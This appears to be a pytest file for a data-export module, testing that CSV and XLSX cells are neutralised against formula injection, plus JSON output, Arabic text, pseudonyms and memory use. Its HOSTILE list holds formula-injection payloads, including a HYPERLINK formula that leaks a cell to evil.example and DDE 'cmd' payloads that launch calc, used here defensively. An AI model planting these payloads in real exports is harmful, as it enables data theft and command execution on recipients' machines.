"""Export cells and writers, without HTTP: formulas neutralised in CSV and XLSX, JSON left
as data, Arabic round-trips, pseudonyms, and memory that does not grow with the rows."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from voices.findings.exports import writers
from voices.findings.exports.cells import neutralise, pseudonym

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
ARABIC = "أشعر بالأمان في بيتي، لكني أفتقد أخي"


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_prefixed_and_kept_whole(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["I like school", ARABIC, "", "a=b", "1+1", "email@x"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_numbers_and_blanks_are_not_text() -> None:
    assert neutralise(-3) == -3
    assert neutralise(None) is None


def test_pseudonym_is_stable_per_consultation_and_keyed() -> None:
    first = pseudonym("key", 7, 41)
    assert first == pseudonym("key", 7, 41)
    assert first != pseudonym("key", 7, 42)
    assert first != pseudonym("key", 8, 41)  # cannot link a child across consultations
    assert first != pseudonym("other key", 7, 41)  # depends on the server's secret
    assert first.startswith("R-") and len(first) == 18
    int(first[2:], 16)  # hex digits only
    with pytest.raises(ValueError):
        pseudonym("", 7, 41)


def _csv(chunks: Iterator[bytes]) -> list[list[str]]:
    data = b"".join(chunks)
    assert data.startswith("\ufeff".encode())  # Excel needs the BOM to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_neutralises_every_hostile_cell_and_keeps_arabic() -> None:
    rows = [[payload, ARABIC, 3, None, True] for payload in HOSTILE]
    read = _csv(writers.csv_stream(["text", "arabic", "n", "blank", "flag"], rows))
    assert read[0] == ["text", "arabic", "n", "blank", "flag"]
    for payload, row in zip(HOSTILE, read[1:], strict=True):
        assert row == ["'" + payload, ARABIC, "3", "", "yes"]
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_header_cells_are_neutralised_too() -> None:
    read = _csv(writers.csv_stream(["=x"], []))
    assert read == [["'=x"]]


def test_xlsx_never_holds_a_formula_and_keeps_arabic(tmp_path) -> None:
    rows = [[payload, ARABIC, 4, "bell\x07"] for payload in HOSTILE]
    path = writers.xlsx_file([writers.Sheet("answers", ["text", "arabic", "n", "ctl"], rows)])
    try:
        book = load_workbook(path)
        sheet = book["answers"]
        values = [[c.value for c in row] for row in sheet.iter_rows()]
        kinds = {c.data_type for row in sheet.iter_rows() for c in row}
    finally:
        path.unlink()
    assert "f" not in kinds  # no cell is a formula
    assert values[0] == ["text", "arabic", "n", "ctl"]
    for payload, row in zip(HOSTILE, values[1:], strict=True):
        # Some openpyxl versions read a carriage return back as a newline; the prefix matters.
        text, *rest = row
        assert text.replace("\r", "\n") == "'" + payload.replace("\r", "\n")
        assert rest == [ARABIC, 4, "bell"]


def test_file_chunks_deletes_the_file_when_done(tmp_path) -> None:
    path = writers.xlsx_file([writers.Sheet("t", ["a"], [[1]])])
    assert path.exists()
    data = b"".join(writers.file_chunks(path))
    assert data.startswith(b"PK") and not path.exists()


def test_json_is_data_left_as_written() -> None:
    items = [{"text": payload, "arabic": ARABIC} for payload in HOSTILE]
    data = b"".join(writers.json_stream({"consultation": 3}, "answers", iter(items)))
    parsed = json.loads(data.decode("utf-8"))
    assert parsed == {"consultation": 3, "answers": items}
    assert ARABIC.encode() in data  # written as UTF-8, not \\u escapes


def test_json_with_no_items_parses() -> None:
    assert json.loads(b"".join(writers.json_stream({}, "rows", iter([])))) == {"rows": []}


def _rows(n: int) -> Iterator[list[object]]:
    for i in range(n):
        yield [f"R-{i:016x}", "12-17", "en", "2026-12-01", "no", "q", ARABIC * 3, i]


def _peak(consume) -> int:
    tracemalloc.start()
    try:
        consume()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "consume",
    [
        lambda n: sum(len(c) for c in writers.csv_stream(["a"] * 8, _rows(n))),
        lambda n: sum(
            len(c) for c in writers.json_stream({}, "rows", ({"row": r} for r in _rows(n)))
        ),
    ],
    ids=["csv", "json"],
)
def test_stream_memory_does_not_grow_with_rows(consume) -> None:
    small = _peak(lambda: consume(2_000))
    large = _peak(lambda: consume(20_000))
    assert large < small * 1.5, (small, large)  # ten times the rows, not ten times the memory


def _xlsx(n: int) -> int:
    path = writers.xlsx_file([writers.Sheet("rows", ["a"] * 8, _rows(n))])
    try:
        return path.stat().st_size
    finally:
        path.unlink()


def test_xlsx_memory_does_not_grow_with_rows() -> None:
    _xlsx(100)  # openpyxl's first use loads its modules: not the export's memory
    small = _peak(lambda: _xlsx(2_000))
    large = _peak(lambda: _xlsx(20_000))
    assert large < small * 1.5, (small, large)
